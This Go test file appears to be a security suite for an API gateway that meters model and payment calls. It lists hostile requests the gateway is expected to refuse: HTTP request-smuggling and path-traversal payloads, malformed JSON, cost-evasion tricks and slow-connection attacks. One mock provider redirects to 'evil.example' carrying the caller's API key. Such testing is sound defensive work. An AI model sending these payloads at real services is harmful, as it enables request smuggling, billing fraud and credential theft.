@@ -1,0 +1,278 @@
+package hostile
+
+import (
+	"compress/gzip"
+	"encoding/base64"
+	"encoding/json"
+	"fmt"
+	"net"
+	"net/http"
+	"net/url"
+	"os"
+	"strings"
+	"time"
+)
+
+func dial(at string) (net.Conn, error) {
+	c, err := net.DialTimeout("tcp", at, wait)
+	if err == nil {
+		_ = c.SetDeadline(time.Now().Add(wait))
+	}
+	return c, err
+}
+
+// proc is a file of sentinel's process.
+func (s *stand) proc(name string) string {
+	s.Helper()
+	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/%s", s.child.Process.Pid, name))
+	s.must(err)
+	return string(b)
+}
+
+// listensBeyondLoopback tries the port by this machine's other addresses.
+func listensBeyondLoopback(s *stand, at string) bool {
+	_, port, err := net.SplitHostPort(at)
+	s.must(err)
+	addresses, err := net.InterfaceAddrs()
+	s.must(err)
+	for _, a := range addresses {
+		ip, ok := a.(*net.IPNet)
+		if !ok || ip.IP.IsLoopback() || ip.IP.IsLinkLocalUnicast() {
+			continue
+		}
+		if c, err := net.DialTimeout("tcp", net.JoinHostPort(ip.IP.String(), port), time.Second); err == nil {
+			_ = c.Close()
+			return true
+		}
+	}
+	return false
+}
+
+func httpParsing() []attack {
+	// closed: at an error of its codec Envoy closes the connection without an answer where ext_proc sees answers
+	// (envoyproxy/envoy issue 29440).
+	const closed = 0
+	raw := func(name string, status int, text string) attack {
+		return attack{name: name, status: status, reason: envoyRefuses, raw: text}
+	}
+	body := chat("")
+	return []attack{
+		raw("two lengths", closed, bare(chatLine+" HTTP/1.1", body, "Host: localhost", auth, json_, fmt.Sprintf("Content-Length: %d", len(body)), "Content-Length: 5")),
+		raw("a length and chunks", closed, bare(chatLine+" HTTP/1.1", "0\r\n\r\n", "Host: localhost", auth, json_, "Content-Length: 5", "Transfer-Encoding: chunked")),
+		raw("chunks in another spelling", 0, bare(chatLine+" HTTP/1.1", "0\r\n\r\n", "Host: localhost", auth, json_, "Transfer-Encoding: xchunked")),
+		raw("chunks twice", 0, bare(chatLine+" HTTP/1.1", "0\r\n\r\n", "Host: localhost", auth, json_, "Transfer-Encoding: chunked, chunked")),
+		raw("a negative length", closed, bare(chatLine+" HTTP/1.1", body, "Host: localhost", auth, json_, "Content-Length: -1")),
+		raw("a length that is no number", closed, bare(chatLine+" HTTP/1.1", body, "Host: localhost", auth, json_, "Content-Length: 0x10")),
+		raw("a space before the colon", closed, bare("GET "+lima+" HTTP/1.1", "", "Host: localhost", "Authorization : Bearer "+token)),
+		{name: "a folded header", status: 200, hits: 1, raw: bare("GET "+lima+" HTTP/1.1", "", "Host: localhost", "Authorization: Bearer", " "+token)}, // unfolded, RFC 9112 section 5.2
+		raw("a null byte in a header", closed, bare("GET "+lima+" HTTP/1.1", "", "Host: localhost", auth, "X-A: a\x00b")),
+		{name: "bare line feeds", status: 200, hits: 1, raw: "GET " + lima + " HTTP/1.1\nHost: localhost\n" + auth + "\n\n"}, // RFC 9112 section 2.2 allows it
+		raw("a chunk size beyond 64 bits", 0, bare(chatLine+" HTTP/1.1", "fffffffffffffffff\r\n{}\r\n0\r\n\r\n", "Host: localhost", auth, json_, "Transfer-Encoding: chunked")),
+		raw("a chunk size with a sign", 0, bare(chatLine+" HTTP/1.1", "-2\r\n{}\r\n0\r\n\r\n", "Host: localhost", auth, json_, "Transfer-Encoding: chunked")),
+		{name: "a request behind a refused one's body", status: 401, reason: unidentified, raw: withBody(chatLine, request("GET "+lima, auth), json_)},
+		{name: "a request in the body of a reading", status: 401, reason: unidentified, raw: withBody("GET "+lima, request("GET "+lima, auth))},
+		{name: "a connection header that names the credential", status: 401, reason: unidentified, raw: request("GET "+lima, auth, "Connection: keep-alive, x-api-key, authorization")},
+		{name: "an expectation", status: 200, hits: 1, raw: request("GET "+lima, auth, "Expect: 100-continue")},
+		{name: "an escaped null byte", status: 403, reason: noRoute, raw: request("GET /weather/v1/forecast/a%00b", auth)},
+		{name: "an escaped letter", status: 400, reason: badRequest, raw: request("GET /weather/v1/forecast/%6cima", auth)},
+		{name: "an escape escaped", status: 403, reason: noRoute, raw: request("GET /weather/v1/forecast/%252e%252e", auth)},
+		{name: "a path of 8 KB", status: 400, reason: badRequest, raw: request("GET /weather/v1/forecast/"+strings.Repeat("a", 8<<10), auth)},
+		{name: "a trace", status: 403, reason: noRoute, raw: request("TRACE "+lima, auth)},
+		{name: "options", status: 403, reason: noRoute, raw: request("OPTIONS "+lima, auth)},
+		raw("a method of one's own", closed, request("SPEND "+lima, auth)),
+		raw("an unknown version", closed, bare("GET "+lima+" HTTP/3.1", "", "Host: localhost", auth)),
+		raw("HTTP 0.9", closed, "GET "+lima+"\r\n\r\n"),
+		raw("no host", 400, bare("GET "+lima+" HTTP/1.1", "", auth)),
+		raw("a method with a space", closed, bare("GE T "+lima+" HTTP/1.1", "", "Host: localhost", auth)),
+		raw("a header of 100 KB", closed, request("GET "+lima, auth, "X-Long: "+strings.Repeat("a", 100<<10))),
+		raw("a thousand headers", closed, request("GET "+lima, append([]string{auth}, many(1000)...)...)),
+		raw("an escaped slash", 400, request("GET /weather/v1%2fforecast/lima", auth)),
+		raw("an escaped backslash", 400, request("GET /weather/v1%5cforecast/lima", auth)),
+		{name: "dot segments", status: 403, reason: noRoute, raw: request("GET /weather/v1/x/../forecast/lima", auth)},
+		{name: "escaped dot segments", status: 403, reason: noRoute, raw: request("GET /weather/v1/x/%2e%2e/forecast/lima", auth)},
+		{name: "double slashes", status: 403, reason: noRoute, raw: request("GET /weather//v1/forecast/lima", auth)},
+		{name: "a path parameter", status: 403, reason: noRoute, raw: request("GET /weather/v1;x=1/forecast/lima", auth)},
+		{name: "another case of the path", status: 403, reason: noRoute, raw: request("GET /Weather/V1/Forecast/lima", auth)},
+		{name: "a request inside of a body", status: 400, reason: badRequest, raw: post("GET " + lima + " HTTP/1.1\r\nHost: localhost\r\n" + auth + "\r\n\r\n")},
+		{name: "a header name with an underscore", status: 401, reason: unidentified, raw: request("GET "+lima, "x_api_key: "+token)},
+		{name: "a trailer with a credential", status: 401, reason: unidentified, raw: bare(chatLine+" HTTP/1.1", "5\r\n{\"a\":\r\n2\r\n1}\r\n0\r\nAuthorization: Bearer "+token+"\r\n\r\n", "Host: localhost", json_, "Transfer-Encoding: chunked", "Trailer: Authorization")},
+	}
+}
+
+func many(n int) []string {
+	out := make([]string, n)
+	for i := range out {
+		out[i] = fmt.Sprintf("X-%d: 1", i)
+	}
+	return out
+}
+
+func bodyParsing() []attack {
+	bad := func(name, body string) attack {
+		return attack{name: name, status: 400, reason: badRequest, raw: post(body)}
+	}
+	return []attack{
+		bad("a model twice", `{"model":"gpt-5-nano","model":"gpt-5-mini","max_completion_tokens":20,"messages":[]}`),
+		bad("a model in another case", `{"model":"gpt-5-mini","Model":"gpt-5","max_completion_tokens":20,"messages":[]}`),
+		bad("a model by an escape", `{"model":"gpt-5-mini","\u006dodel":"gpt-5","max_completion_tokens":20,"messages":[]}`),
+		bad("a limit twice", `{"model":"gpt-5-mini","max_completion_tokens":20,"max_completion_tokens":90000,"messages":[]}`),
+		bad("a stream twice", `{"model":"gpt-5-mini","stream":false,"stream":true,"max_completion_tokens":20,"messages":[]}`),
+		bad("bytes that are no UTF-8", "{\"model\":\"gpt-5-mini\xff\",\"max_completion_tokens\":20,\"messages\":[]}"),
+		bad("half of a surrogate", `{"model":"gpt-5-mini\ud800","max_completion_tokens":20,"messages":[]}`),
+		bad("depth", `{"model":"gpt-5-mini","messages":`+strings.Repeat("[", 5000)+strings.Repeat("]", 5000)+`}`),
+		bad("two documents", chat("")+chat("")),
+		bad("an array", `[`+chat("")+`]`),
+		bad("a comment", `{"model":"gpt-5-mini",/* */"messages":[]}`),
+		bad("a comma at the end", `{"model":"gpt-5-mini","messages":[],}`),
+		bad("single quotes", `{'model':'gpt-5-mini'}`),
+		bad("NaN as a limit", `{"model":"gpt-5-mini","max_completion_tokens":NaN,"messages":[]}`),
+		bad("a text as a limit", `{"model":"gpt-5-mini","max_completion_tokens":"20","messages":[]}`),
+		bad("a fraction as a limit", `{"model":"gpt-5-mini","max_completion_tokens":20.5,"messages":[]}`),
+		bad("a limit beyond 64 bits", `{"model":"gpt-5-mini","max_completion_tokens":99999999999999999999,"messages":[]}`),
+		bad("a negative limit", `{"model":"gpt-5-mini","max_completion_tokens":-5,"messages":[]}`),
+		bad("a model that is no text", `{"model":["gpt-5-mini"],"messages":[]}`),
+		bad("no model", `{"messages":[]}`),
+		bad("nothing", ` `),
+		bad("a mark of order before it", "\ufeff"+chat("")),
+		bad("a tool's type twice", `{"model":"gpt-5-mini","max_completion_tokens":20,"messages":[],"tools":[{"type":"web_search","type":"function"}]}`),
+		bad("a tool's type in another case", `{"model":"gpt-5-mini","max_completion_tokens":20,"messages":[],"tools":[{"type":"function","Type":"web_search"}]}`),
+		bad("answers as text", chat(`,"n":"100"`)),
+		bad("no answers", chat(`,"n":0`)),
+		bad("a control byte in a name", "{\"model\":\"gpt-5-mini\\u0000\",\"messages\":[]}"),
+		bad("a line in a name", `{"model":"gpt-5-mini\n\"level\":\"error\"","messages":[]}`),
+		bad("a lookalike in a name", `{"model":"gpt-5-m\u0456ni","messages":[]}`),
+		bad("the caller's token in the body", chat(`,"user":"`+token+`"`)),
+		{name: "a form as JSON", status: 400, reason: badRequest, raw: withBody("POST /stripe/v1/charges", `{"amount":100}`, auth, json_)},
+		{name: "an amount in the query", status: 400, reason: badRequest, raw: withBody("POST /stripe/v1/charges?amount=5", "amount=100&currency=usd&source=tok_visa", auth, form)},
+		{name: "a form with a field twice", status: 400, reason: badRequest, raw: withBody("POST /stripe/v1/charges", "amount=100&amount=900000&currency=usd&source=tok_visa", auth, form)},
+		{name: "a form with a bad escape", status: 400, reason: badRequest, raw: withBody("POST /stripe/v1/charges", "amount=1%ZZ&currency=usd&source=tok_visa", auth, form)},
+		{name: "a compressed body", status: 400, reason: badRequest, raw: post("\x1f\x8b\x08\x00\x00\x00\x00\x00", "Content-Encoding: gzip")},
+	}
+}
+
+func costEvasion() []attack {
+	return []attack{
+		{name: "a model without a price", status: 403, reason: unpriced, raw: post(`{"model":"gpt-99-free","max_completion_tokens":20,"messages":[]}`)},
+		{name: "a model with a space", status: 400, reason: badRequest, raw: post(`{"model":" gpt-5-mini","max_completion_tokens":20,"messages":[]}`)},
+		{name: "a model of another provider", status: 403, reason: unpriced, raw: post(`{"model":"claude-sonnet-4-5","max_completion_tokens":20,"messages":[]}`)},
+		{name: "a budget that is spent", status: 429, reason: spent, raw: withBody(chatLine, chat(""), "Authorization: Bearer "+otherToken, json_)},
+		{name: "a hundred answers on a spent budget", status: 429, reason: spent, raw: withBody(chatLine, chat(`,"n":100`), "Authorization: Bearer "+otherToken, json_)},
+		{name: "a limit of nothing on a spent budget", status: 429, reason: spent, raw: withBody(chatLine, `{"model":"gpt-5-mini","messages":[]}`, "Authorization: Bearer "+otherToken, json_)},
+		{name: "an answer without usage", status: 200, hits: 1, raw: post(chat("")), provider: func(w http.ResponseWriter, _ *http.Request) {
+			w.Header().Set("Content-Type", "application/json")
+			_, _ = w.Write([]byte(`{"id":"x","choices":[{"message":{"role":"assistant","content":"hello there"}}]}`))
+		}, holds: lastCosts},
+		{name: "a negative usage", status: 200, hits: 1, raw: post(chat("")), provider: lying(`{"prompt_tokens":-5000,"completion_tokens":-5000,"total_tokens":-10000}`), holds: lastCosts},
+		{name: "a usage as text", status: 200, hits: 1, raw: post(chat("")), provider: lying(`{"prompt_tokens":"many","completion_tokens":null}`), holds: lastCosts},
+		{name: "an answer that is compressed unasked", status: 200, hits: 1, raw: post(chat("")), provider: compressed, holds: lastCosts},
+		{name: "a usage of nothing", status: 200, hits: 1, raw: post(chat("")), provider: lying(`{}`), holds: lastCosts},
+	}
+}
+
+// compressed answers with gzip, which nobody asked for.
+func compressed(w http.ResponseWriter, _ *http.Request) {
+	w.Header().Set("Content-Type", "application/json")
+	w.Header().Set("Content-Encoding", "gzip")
+	z := gzip.NewWriter(w)
+	_, _ = z.Write([]byte(`{"id":"x","usage":{"prompt_tokens":5,"completion_tokens":5}}`))
+	_ = z.Close()
+}
+
+// lying answers with a usage of its own.
+func lying(usage string) http.HandlerFunc {
+	return func(w http.ResponseWriter, _ *http.Request) {
+		w.Header().Set("Content-Type", "application/json")
+		_, _ = w.Write([]byte(`{"id":"x","model":"gpt-5-mini","choices":[{"message":{"role":"assistant","content":"hello there"}}],"usage":` + usage + `}`))
+	}
+}
+
+// lastCosts holds that a call whose provider says nothing true is not free.
+func lastCosts(s *stand, x answer) {
+	s.Helper()
+	id := x.header.Get("X-Sentinel-Call")
+	s.eventually("the call "+id+" is booked at a price", func() bool {
+		var cost int64
+		err := s.db.QueryRow(s.Context(), `SELECT coalesce(max(cost_nusd), 0) FROM entries WHERE call_id = $1`, id).Scan(&cost)
+		return err == nil && cost > 0
+	})
+}
+
+func leaks() []attack {
+	return []attack{
+		{name: "another service's token in a header that passes", status: 200, hits: 1, raw: request("GET "+lima, auth, asKey, "api-key: "+token, "x-goog-api-key: "+token, "Cookie: t="+token)},
+		{name: "the answer's own verdict", status: 200, hits: 1, raw: request("GET "+lima, auth), provider: func(w http.ResponseWriter, _ *http.Request) {
+			w.Header().Set("X-Sentinel-Verdict", "deny; reason=budget_spent")
+			w.Header().Set("X-Sentinel-Model", "gpt-9")
+			_, _ = w.Write([]byte("{}"))
+		}},
+		{name: "the provider's key in an error", status: 401, hits: 1, raw: post(chat("")), provider: quoting(401, false)},
+		{name: "the provider's key in an answer", status: 200, hits: 1, raw: post(chat("")), provider: quoting(200, false)},
+		{name: "the provider's key in pieces", status: 500, hits: 1, raw: request("GET "+lima, auth), provider: quoting(500, true)},
+		{name: "the provider's key in a stream", status: 200, hits: 1, raw: post(chat(`,"stream":true`)), provider: quoting(200, true)},
+		{name: "the provider's key in an unmetered answer", status: 200, hits: 1, raw: request("GET "+lima, auth), provider: quoting(200, false)},
+		{name: "the provider's cookies", status: 200, hits: 1, raw: request("GET "+lima, auth), holds: noHeader("Set-Cookie"), provider: func(w http.ResponseWriter, _ *http.Request) {
+			http.SetCookie(w, &http.Cookie{Name: "session", Value: "of the organisation"})
+			_, _ = w.Write([]byte("{}"))
+		}},
+		{name: "the caller's token in the query", status: 400, reason: badRequest, raw: request("GET "+lima+"?key="+token, auth)},
+		{name: "the caller's token in the path", status: 400, reason: badRequest, raw: request("GET /weather/v1/forecast/"+token, auth)},
+		{name: "the caller's token in a header of its own", status: 200, hits: 1, raw: request("GET "+lima, auth, "X-Trace: of "+token)},
+		{name: "a redirection", status: 302, hits: 1, raw: request("GET "+lima, auth), provider: func(w http.ResponseWriter, r *http.Request) {
+			http.Redirect(w, r, "https://evil.example/"+r.Header.Get("X-Api-Key"), http.StatusFound)
+		}},
+		{name: "a refusal that names a token", status: 401, reason: unidentified, raw: request("GET "+lima, "Authorization: Bearer "+mistyped)},
+	}
+}
+
+// quoting answers with the credential that it got, as it stands and as Basic would write it.
+func quoting(status int, pieces bool) http.HandlerFunc {
+	return func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Type", "application/json")
+		w.Header().Set("X-Debug-Key", vaultKey)
+		quoted, _ := json.Marshal(map[string]any{"error": map[string]string{
+			"message": "Incorrect API key provided: " + vaultKey, "basic": base64.StdEncoding.EncodeToString([]byte("key:" + vaultKey)), "url": "/x?key=" + url.QueryEscape(vaultKey),
+		}})
+		if strings.Contains(r.Header.Get("Accept")+r.URL.Path, "stream") {
+			w.Header().Set("Content-Type", "text/event-stream")
+		}
+		w.WriteHeader(status)
+		for len(quoted) > 0 {
+			n := len(quoted)
+			if pieces {
+				n = min(n, 7)
+			}
+			_, _ = w.Write(quoted[:n])
+			_ = http.NewResponseController(w).Flush()
+			quoted = quoted[n:]
+		}
+	}
+}
+
+func availability() []attack {
+	return []attack{
+		{name: "a body beyond the bound", status: 413, reason: tooLarge, raw: bare(chatLine+" HTTP/1.1", "{", "Host: localhost", auth, json_, "Content-Length: 999999999")},
+		{name: "half of a head", status: 0, play: func(s *stand) []answer {
+			c, err := dial(s.addr)
+			s.must(err)
+			defer func() { _ = c.Close() }()
+			_, _ = c.Write([]byte("GET " + lima + " HTTP/1.1\r\nHost: loc"))
+			return nil
+		}},
+		{name: "a hundred silent connections", play: func(s *stand) []answer {
+			for range 100 {
+				c, err := dial(s.addr)
+				s.must(err)
+				defer func() { _ = c.Close() }()
+			}
+			return nil
+		}},
+		{name: "a body that never comes", play: func(s *stand) []answer {
+			c, err := dial(s.addr)
+			s.must(err)
+			_, _ = c.Write([]byte(bare(chatLine+" HTTP/1.1", "{", "Host: localhost", auth, json_, "Content-Length: 500")))
+			<-time.After(200 * time.Millisecond)
+			_ = c.Close()
+			return nil
+		}},
+	}
+}
